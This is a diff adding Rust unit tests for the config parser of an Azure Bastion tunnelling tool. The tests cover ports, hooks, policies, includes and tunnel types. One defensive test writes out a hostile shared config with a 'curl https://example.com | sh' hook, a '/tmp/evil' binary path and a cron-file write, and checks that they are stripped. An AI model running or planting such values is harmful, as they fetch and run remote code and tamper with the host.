     bastion_name: my-bastion
     bastion_resource_group: BASTION-RG
     ssh_config_path: ~/.ssh/az_ssh_config/my-vm
+    presets:
+      ssh: "2022:22"
+      postgres: "15432:5432"
   - name: bare-vm
     resource_group: RG2
     target_resource_id: /subscriptions/y/virtualMachines/bare
@@ -130,12 +947,645 @@ machines:
         assert_eq!(cfg.machines[1].ssh_config_path, None);
     }
 
+    #[test]
+    fn presets_keep_config_order_and_are_validated() {
+        let cfg = parse(SAMPLE).unwrap();
+        cfg.validate().unwrap();
+        assert_eq!(
+            cfg.machines[0].presets,
+            vec![
+                ("ssh".to_string(), "2022:22".to_string()),
+                ("postgres".to_string(), "15432:5432".to_string()),
+            ]
+        );
+        assert!(cfg.machines[1].presets.is_empty());
+
+        let bad = SAMPLE.replace("\"15432:5432\"", "\"15432\"");
+        assert!(parse(&bad).unwrap().validate().is_err());
+
+        let outside = parse(&format!("policy:\n  local_ports: 15000-15999\n{SAMPLE}")).unwrap();
+        let err = outside.validate().unwrap_err();
+        assert!(err.to_string().contains("preset 'ssh'"), "{err}");
+    }
+
+    #[test]
+    fn log_lines_default_and_must_keep_something() {
+        let cfg = parse(SAMPLE).unwrap();
+        assert_eq!(cfg.log_lines(), crate::azure::tunnel::DEFAULT_LOG_LINES);
+        let cfg = parse(&format!("log_lines: 2000\n{SAMPLE}")).unwrap();
+        assert_eq!(cfg.log_lines(), 2000);
+        let none = parse(&format!("log_lines: 0\n{SAMPLE}")).unwrap();
+        assert!(none.validate().is_err());
+    }
+
+    #[test]
+    fn start_timeout_defaults_and_zero_waits_forever() {
+        let cfg = parse(SAMPLE).unwrap();
+        assert_eq!(
+            cfg.start_timeout(),
+            Some(crate::azure::tunnel::DEFAULT_START_TIMEOUT)
+        );
+        let cfg = parse(&format!("start_timeout_secs: 90\n{SAMPLE}")).unwrap();
+        assert_eq!(cfg.start_timeout(), Some(Duration::from_secs(90)));
+        let cfg = parse(&format!("start_timeout_secs: 0\n{SAMPLE}")).unwrap();
+        assert_eq!(cfg.start_timeout(), None);
+    }
+
+    #[test]
+    fn arc_targets_are_inferred_and_need_no_bastion() {
+        let cfg = parse(
+            "
+machines:
+  - name: onprem-01
+    resource_group: ARC-RG
+    target_resource_id: /subscriptions/x/resourceGroups/ARC-RG/providers/Microsoft.HybridCompute/machines/onprem-01
+  - name: edge
+    resource_group: ARC-RG
+    target_type: arc
+",
+        )
+        .unwrap();
+        cfg.validate().unwrap();
+        assert_eq!(cfg.machines[0].target_type(), TargetType::Arc);
+        assert_eq!(cfg.machines[1].target_type(), TargetType::Arc);
+
+        let vm = parse(
+            "
+machines:
+  - name: vm
+    resource_group: RG
+    target_resource_id: /subscriptions/x/virtualMachines/vm
+",
+        )
+        .unwrap();
+        assert_eq!(vm.machines[0].target_type(), TargetType::Vm);
+        assert!(vm.validate().is_err());
+    }
+
+    #[test]
+    fn scale_sets_are_inferred_and_take_an_instance_id() {
+        let cfg = parse(
+            "
+machines:
+  - name: workers
+    resource_group: RG
+    target_resource_id: /subscriptions/x/resourceGroups/RG/providers/Microsoft.Compute/virtualMachineScaleSets/workers
+    bastion_name: b
+    bastion_resource_group: HUB
+  - name: worker-3
+    resource_group: RG
+    target_resource_id: /subscriptions/x/resourceGroups/RG/providers/Microsoft.Compute/virtualMachineScaleSets/workers/virtualMachines/3
+    bastion_name: b
+    bastion_resource_group: HUB
+  - name: pinned
+    resource_group: RG
+    target_type: vmss
+    instance_id: \"0\"
+    bastion_name: b
+    bastion_resource_group: HUB
+",
+        )
+        .unwrap();
+        cfg.validate().unwrap();
+        assert_eq!(cfg.machines[0].target_type(), TargetType::Vmss);
+        // A single instance's ID is tunnelled to like any VM.
+        assert_eq!(cfg.machines[1].target_type(), TargetType::Vm);
+        assert_eq!(cfg.machines[2].instance_id.as_deref(), Some("0"));
+
+        let stray = SAMPLE.replace("    presets:", "    instance_id: \"1\"\n    presets:");
+        assert!(parse(&stray).unwrap().validate().is_err());
+    }
+
+    #[test]
+    fn target_ip_replaces_the_resource_id() {
+        let ip = "
+machines:
+  - name: onprem-db
+    resource_group: RG
+    target_ip: 10.1.0.4
+    bastion_name: b
+    bastion_resource_group: HUB
+";
+        let cfg = parse(ip).unwrap();
+        cfg.validate().unwrap();
+        assert_eq!(cfg.machines[0].target_ip.as_deref(), Some("10.1.0.4"));
+
+        let both = ip.replace(
+            "    target_ip:",
+            "    target_resource_id: /subscriptions/x/virtualMachines/vm\n    target_ip:",
+        );
+        assert!(parse(&both).unwrap().validate().is_err());
+        let not_ip = ip.replace("10.1.0.4", "db.internal");
+        assert!(parse(&not_ip).unwrap().validate().is_err());
+    }
+
+    #[test]
+    fn local_config_is_layered_over_the_shared_one() {
+        let shared = parse(SAMPLE).unwrap();
+        let local = parse(
+            "
+config_source: azblob://acct/configs/burrow.yaml
+machines:
+  - name: my-vm
+    resource_group: MINE
+    target_resource_id: /subscriptions/z/virtualMachines/my-vm
+    bastion_name: b
+    bastion_resource_group: HUB
+  - name: scratch
+    resource_group: MINE
+    target_resource_id: /subscriptions/z/virtualMachines/scratch
+    bastion_name: b
+    bastion_resource_group: HUB
+",
+        )
+        .unwrap();
+        let cfg = local.over(shared);
+        cfg.validate().unwrap();
+        let names: Vec<&str> = cfg.machines.iter().map(|m| m.name.as_str()).collect();
+        assert_eq!(names.len(), 3);
+        assert_eq!(names[0], "my-vm");
+        assert_eq!(names[2], "scratch");
+        assert_eq!(cfg.machines[0].resource_group, "MINE");
+    }
+
+    #[test]
+    fn a_shared_config_cannot_run_commands_or_write_files() {
+        let shared = parse(&format!(
+            "
+az_path: /tmp/evil
+az_args: [--debug]
+metrics_textfile: /etc/cron.d/burrow
+notifications:
+  webhook_url: https://example.com/hook
+auth:
+  tenant: t
+  client_id: c
+  client_secret_env: SECRET
+{SAMPLE}
+tunnels:
+  - name: db
+    machine: my-vm
+    local_port: 15432
+    remote_port: 5432
+    on_ready: curl https://example.com | sh
+"
+        ))
+        .unwrap();
+        let local = parse("az_args: [--only-show-errors]\nmachines: []\n").unwrap();
+        let cfg = local.over(shared.shared());
+        assert_eq!(cfg.az_path, None);
+        assert_eq!(cfg.az_args, ["--only-show-errors"]);
+        assert!(cfg.auth.is_none());
+        assert_eq!(cfg.metrics_textfile, None);
+        assert_eq!(cfg.notifications.webhook_url, None);
+        assert_eq!(cfg.tunnels[0].name, "db");
+        assert_eq!(cfg.tunnels[0].on_ready, None);
+    }
+
+    #[test]
+    fn the_shared_policy_binds_local_tunnels() {
+        let shared = || {
+            parse(&format!(
+                "policy:\n  local_ports: 15000-15999\n  allow_remote_bind: false\n{SAMPLE}"
+            ))
+            .unwrap()
+        };
+        let tunnel = |extra: &str| {
+            parse(&format!(
+                "
+policy:
+  local_ports: 1-65535
+tunnels:
+  - name: db
+    machine: my-vm
+    local_port: 15432
+    remote_port: 5432
+{extra}"
+            ))
+            .unwrap()
+            .over(shared())
+        };
+        tunnel("").validate().unwrap();
+        let err = tunnel("    bind_address: 0.0.0.0\n")
+            .validate()
+            .unwrap_err();
+        assert!(err.to_string().contains("tunnel 'db'"), "{err}");
+        let mut cfg = tunnel("");
+        cfg.tunnels[0].local_port = Some(5432);
+        assert!(cfg.validate().is_err());
+
+        let bad = parse(&format!("policy:\n  local_ports: 9-1\n{SAMPLE}")).unwrap();
+        assert!(bad.validate().is_err());
+    }
+
+    fn machine_yaml(name: &str, rg: &str) -> String {
+        format!(
+            "  - name: {name}
+    resource_group: {rg}
+    target_resource_id: /subscriptions/z/virtualMachines/{name}
+    bastion_name: b
+    bastion_resource_group: HUB
+"
+        )
+    }
+
+    #[test]
+    fn includes_are_merged_under_the_including_file() {
+        let dir = std::env::temp_dir().join("az-burrow-config-test-include");
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(dir.join("conf.d")).unwrap();
+        let write = |name: &str, text: String| std::fs::write(dir.join(name), text).unwrap();
+        write(
+            "team.yaml",
+            format!(
+                "stop_timeout_secs: 9\nmachines:\n{}{}",
+                machine_yaml("vm-web", "TEAM"),
+                machine_yaml("vm-db", "TEAM")
+            ),
+        );
+        write(
+            "conf.d/10-extra.yaml",
+            format!("machines:\n{}", machine_yaml("vm-extra", "EXTRA")),
+        );
+        write(
+            "conf.d/20-db.yml",
+            format!("machines:\n{}", machine_yaml("vm-db", "MINE")),
+        );
+        write("conf.d/notes.txt", "not yaml".into());
+        write(
+            "burrow.config.yaml",
+            format!(
+                "include: [team.yaml, conf.d]\nmachines:\n{}",
+                machine_yaml("vm-web", "MINE")
+            ),
+        );
+
+        let cfg = load(&dir.join("burrow.config.yaml")).unwrap();
+        let machines: Vec<(&str, &str)> = cfg
+            .machines
+            .iter()
+            .map(|m| (m.name.as_str(), m.resource_group.as_str()))
+            .collect();
+        assert_eq!(
+            machines,
+            [("vm-web", "MINE"), ("vm-db", "MINE"), ("vm-extra", "EXTRA")]
+        );
+        assert_eq!(cfg.stop_timeout_secs, Some(9));
+
+        // A file that includes itself, directly or not, is refused.
+        write(
+            "conf.d/30-loop.yaml",
+            "include: [../burrow.config.yaml]\n".into(),
+        );
+        let err = load(&dir.join("burrow.config.yaml")).unwrap_err();
+        assert!(
+            format!("{err:#}").contains("included more than once"),
+            "{err:#}"
+        );
+        write("burrow.config.yaml", "include: [missing.yaml]\n".into());
+        let err = load(&dir.join("burrow.config.yaml")).unwrap_err();
+        assert!(err.to_string().contains("include 'missing.yaml' not found"));
+    }
+
+    #[test]
+    fn cloud_must_be_a_known_azure_cloud() {
+        let gov = format!("cloud: AzureUSGovernment\n{SAMPLE}");
+        parse(&gov).unwrap().validate().unwrap();
+        let typo = format!("cloud: AzureGov\n{SAMPLE}");
+        let err = parse(&typo).unwrap().validate().unwrap_err().to_string();
+        assert!(err.contains("AzureUSGovernment"));
+    }
+
+    #[test]
+    fn az_path_and_args_are_read() {
+        let text =
+            format!("az_path: ~/venvs/azure/bin/az\naz_args: [--only-show-errors]\n{SAMPLE}");
+        let settings = parse(&text).unwrap().az_settings();
+        assert!(settings.path.unwrap().ends_with("/venvs/azure/bin/az"));
+        assert_eq!(settings.args, ["--only-show-errors"]);
+        assert_eq!(parse(SAMPLE).unwrap().az_settings(), Default::default());
+    }
+
+    #[test]
+    fn service_principal_sign_ins_get_their_own_az_profile() {
+        let text =
+            format!("auth:\n  tenant: t\n  client_id: sp-ci\n  certificate: /etc/sp.pem\n{SAMPLE}");
+        let cfg = parse(&text).unwrap();
+        let dir = cfg.az_settings().config_dir.unwrap();
+        assert!(dir.ends_with("sp-ci"), "{dir}");
+        let merged = parse(SAMPLE).unwrap().over(cfg);
+        assert_eq!(merged.auth.unwrap().client_id.as_deref(), Some("sp-ci"));
+    }
+
+    #[test]
+    fn retry_settings_override_defaults_per_operation() {
+        let text = format!("retry:\n  tunnel:\n    retries: 5\n    delay_secs: 10\n{SAMPLE}");
+        let cfg = parse(&text).unwrap();
+        assert_eq!(
+            cfg.tunnel_retry(),
+            RetryPolicy::new(5, Duration::from_secs(10))
+        );
+        assert_eq!(cfg.cert_retry(), crate::azure::cert::DEFAULT_RETRY);
+
+        let off = parse(&format!("retry:\n  cert:\n    retries: 0\n{SAMPLE}")).unwrap();
+        assert_eq!(off.cert_retry().retries, 0);
+    }
+
+    #[test]
+    fn cert_timing_per_machine_over_top_level() {
+        let text = format!(
+            "cert:\n  lifetime_mins: 480\n  renewal_window_mins: 30\n{}",
+            SAMPLE.replace(
+                "    ssh_config_path: ~/.ssh/az_ssh_config/my-vm\n",
+                "    ssh_config_path: ~/.ssh/az_ssh_config/my-vm\n    cert:\n      renewal_window_mins: 60\n",
+            )
+        );
+        let cfg = parse(&text).unwrap();
+        cfg.validate().unwrap();
+        let machines: Vec<Machine> = cfg
+            .machines
+            .into_iter()
+            .map(|m| m.into_machine(cfg.cert))
+            .collect();
+        let (mine, bare) = (machines[0].cert_timing, machines[1].cert_timing);
+        assert_eq!(mine.lifetime, chrono::Duration::hours(8));
+        assert_eq!(mine.renewal_window, chrono::Duration::hours(1));
+        assert_eq!(bare.renewal_window, chrono::Duration::minutes(30));
+        assert_eq!(bare.retry_delay, CertTiming::default().retry_delay);
+
+        let too_wide = format!("cert:\n  renewal_window_mins: 90\n{SAMPLE}");
+        assert!(parse(&too_wide).unwrap().validate().is_err());
+        let no_delay = SAMPLE.replace(
+            "    bastion_name: b2\n",
+            "    bastion_name: b2\n    cert:\n      retry_delay_secs: 0\n",
+        );
+        let err = parse(&no_delay).unwrap().validate().unwrap_err();
+        assert!(err.to_string().contains("machine 'bare-vm'"), "{err}");
+    }
+
     #[test]
     fn empty_machines_is_an_error_via_validate() {
         let cfg = parse("machines: []").unwrap();
         assert!(cfg.validate().is_err());
     }
 
+    #[test]
+    fn parses_tunnels_with_dependencies() {
+        let text = format!(
+            "{SAMPLE}
+tunnels:
+  - name: db
+    machine: my-vm
+    local_port: 15432
+    remote_port: 5432
+  - name: app
+    machine: bare-vm
+    local_port: 8080
+    remote_port: 80
+    wait_for: db
+    ready_check: tcp
+"
+        );
+        let cfg = parse(&text).unwrap();
+        cfg.validate().unwrap();
+        assert_eq!(cfg.tunnels.len(), 2);
+        assert_eq!(cfg.tunnels[1].wait_for.as_deref(), Some("db"));
+        assert_eq!(cfg.tunnels[0].port_pairs().unwrap(), vec![(15432, 5432)]);
+    }
+
+    #[test]
+    fn parses_tunnel_hooks() {
+        let text = format!(
+            "{SAMPLE}
+tunnels:
+  - name: db
+    machine: my-vm
+    local_port: 15432
+    remote_port: 5432
+    on_ready: psql -h localhost -p $BURROW_LOCAL_PORT
+    on_stop: echo stopped
+"
+        );
+        let hooks = parse(&text).unwrap().tunnels[0].hooks();
+        assert_eq!(
+            hooks.on_ready.as_deref(),
+            Some("psql -h localhost -p $BURROW_LOCAL_PORT")
+        );
+        assert_eq!(hooks.on_stop.as_deref(), Some("echo stopped"));
+        assert_eq!(hooks.on_start, None);
+        assert_eq!(hooks.on_error, None);
+    }
+
+    #[test]
+    fn socks_tunnels_default_to_ssh_port_and_reject_ports() {
+        let text = format!(
+            "{SAMPLE}
+tunnels:
+  - name: proxy
+    machine: my-vm
+    local_port: 1080
+    socks: azureuser
+"
+        );
+        let cfg = parse(&text).unwrap();
+        cfg.validate().unwrap();
+        assert_eq!(cfg.tunnels[0].socks.as_deref(), Some("azureuser"));
+        assert_eq!(cfg.tunnels[0].port_pairs().unwrap(), vec![(1080, 22)]);
+
+        let multi = text.replace("local_port: 1080", "ports: \"1080:22,1081:22\"");
+        assert!(parse(&multi).unwrap().validate().is_err());
+    }
+
+    #[test]
+    fn aks_tunnels_need_a_jump_and_default_their_kubeconfig() {
+        let text = format!(
+            "{SAMPLE}
+tunnels:
+  - name: aks
+    machine: my-vm
+    local_port: 6443
+    jump: azureuser@aks-prod-1a2b.privatelink.uksouth.azmk8s.io:443
+    aks:
+      resource_group: rg-aks
+      cluster: aks-prod
+"
+        );
+        let cfg = parse(&text).unwrap();
+        cfg.validate().unwrap();
+        let aks = cfg.tunnels[0].aks().unwrap();
+        assert_eq!(aks.name, "aks-prod");
+        assert_eq!(aks.kubeconfig, "~/.kube/az-burrow-aks-prod");
+
+        let no_jump = text.replace(
+            "    jump: azureuser@aks-prod-1a2b.privatelink.uksouth.azmk8s.io:443\n",
+            "",
+        );
+        assert!(parse(&no_jump).unwrap().validate().is_err());
+    }
+
+    #[test]
+    fn parses_tunnel_database() {
+        let text = format!(
+            "{SAMPLE}
+tunnels:
+  - name: db
+    machine: my-vm
+    local_port: 15432
+    remote_port: 5432
+    database:
+      engine: postgres
+      name: app
+"
+        );
+        let db = parse(&text).unwrap().tunnels[0].database.clone().unwrap();
+        assert_eq!(db.engine, crate::model::DbEngine::Postgres);
+        assert_eq!(db.name.as_deref(), Some("app"));
+        assert_eq!(db.user, None);
+    }
+
+    #[test]
+    fn jump_tunnels_parse_their_destination() {
+        let text = format!(
+            "{SAMPLE}
+tunnels:
+  - name: db
+    machine: my-vm
+    local_port: 15432
+    jump: azureuser@10.2.0.5:5432
+"
+        );
+        let cfg = parse(&text).unwrap();
+        cfg.validate().unwrap();
+        assert_eq!(
+            cfg.tunnels[0].ssh_forward().unwrap(),
+            Some(SshForward::Jump {
+                user: "azureuser".into(),
+                host: "10.2.0.5".into(),
+                port: 5432
+            })
+        );
+
+        let both = text.replace("    jump:", "    socks: azureuser\n    jump:");
+        assert!(parse(&both).unwrap().validate().is_err());
+        let bad = text.replace(":5432\n", "\n");
+        assert!(parse(&bad).unwrap().validate().is_err());
+    }
+
+    #[test]
+    fn parses_multi_port_tunnel_and_rejects_mixed_forms() {
+        let text = format!(
+            "{SAMPLE}
+tunnels:
+  - name: web
+    machine: my-vm
+    ports: \"2022:22,8080:80\"
+"
+        );
+        let cfg = parse(&text).unwrap();
+        cfg.validate().unwrap();
+        assert_eq!(
+            cfg.tunnels[0].port_pairs().unwrap(),
+            vec![(2022, 22), (8080, 80)]
+        );
+
+        let mixed = format!(
+            "{SAMPLE}
+tunnels:
+  - name: web
+    machine: my-vm
+    ports: \"2022:22\"
+    local_port: 8080
+    remote_port: 80
+"
+        );
+        assert!(parse(&mixed).unwrap().validate().is_err());
+
+        let missing = format!(
+            "{SAMPLE}
+tunnels:
+  - name: web
+    machine: my-vm
+    local_port: 8080
+"
+        );
+        assert!(parse(&missing).unwrap().validate().is_err());
+    }
+
+    #[test]
+    fn rejects_unknown_dependency_and_cycles() {
+        let unknown = format!(
+            "{SAMPLE}
+tunnels:
+  - name: app
+    machine: my-vm
+    local_port: 8080
+    remote_port: 80
+    wait_for: db
+"
+        );
+        assert!(parse(&unknown).unwrap().validate().is_err());
+
+        let cycle = format!(
+            "{SAMPLE}
+tunnels:
+  - name: a
+    machine: my-vm
+    local_port: 1
+    remote_port: 1
+    wait_for: b
+  - name: b
+    machine: my-vm
+    local_port: 2
+    remote_port: 2
+    wait_for: a
+"
+        );
+        assert!(parse(&cycle).unwrap().validate().is_err());
+    }
+
+    #[test]
+    fn quick_spec_builds_single_tunnel_config() {
+        let cfg = quick(
+            "/subscriptions/s/resourceGroups/LAB-UK/providers/Microsoft.Compute/virtualMachines/vm-01:my-bastion:RG-HUB:2222:22",
+        )
+        .unwrap();
+        let m = &cfg.machines[0];
+        assert_eq!(m.name, "vm-01");
+        assert_eq!(m.resource_group, "LAB-UK");
+        assert_eq!(m.bastion_name, "my-bastion");
+        assert_eq!(m.bastion_resource_group, "RG-HUB");
+        assert_eq!(cfg.tunnels[0].port_pairs().unwrap(), vec![(2222, 22)]);
+    }
+
+    #[test]
+    fn malformed_quick_spec_is_rejected() {
+        assert!(quick("/subs/x/vm:bastion:rg:2222").is_err());
+        assert!(quick("/subs/x/vm:bastion:rg:2222:ssh").is_err());
+        assert!(quick(":bastion:rg:2222:22").is_err());
+    }
+
+    #[test]
+    fn config_candidates_follow_xdg_then_the_old_location() {
+        let home = Some(PathBuf::from("/home/u"));
+        assert_eq!(
+            config_candidates(Some("/xdg".into()), home.clone()),
+            [
+                PathBuf::from("burrow.config.yaml"),
+                PathBuf::from("/xdg/burrow/config.yaml"),
+                PathBuf::from("/home/u/.config/burrow.config.yaml"),
+            ]
+        );
+        // A relative XDG_CONFIG_HOME is ignored.
+        assert_eq!(
+            config_candidates(Some("xdg".into()), home)[1],
+            PathBuf::from("/home/u/.config/burrow/config.yaml")
+        );
+        assert_eq!(
+            config_candidates(None, None),
+            [PathBuf::from("burrow.config.yaml")]
+        );
+    }
+
     #[test]
     fn expand_tilde_replaces_leading_tilde() {
         let home = std::path::Path::new("/home/test");